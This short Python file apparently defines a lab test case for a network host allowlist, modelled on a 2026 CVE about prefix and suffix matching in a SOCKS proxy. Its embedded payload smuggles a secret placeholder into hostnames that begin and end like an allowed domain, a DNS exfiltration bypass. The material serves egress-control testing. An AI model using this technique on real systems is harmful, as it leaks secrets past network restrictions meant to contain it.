"""goes to a name that begins and ends like the granted one"""

from evidence import secret_left as succeeded

SHAPE = "CVE-2026-24052 startsWith; endsWith in a SOCKS proxy (2026)"
PROMISE = "P23"
LAB = True
WALLS = "network-names"
OPTIONS = {"hosts": ["api.rwlab.net:80", "rwlab.net:80"]}
PYTHON = """
import socket
for name in ("api.rwlab.net.@SECRET@.wild.rwlab.net", "api.rwlab.net-@SECRET@.wild.rwlab.net"):
    try:
        socket.create_connection((name, 80), 30).close()
    except OSError:
        pass
"""
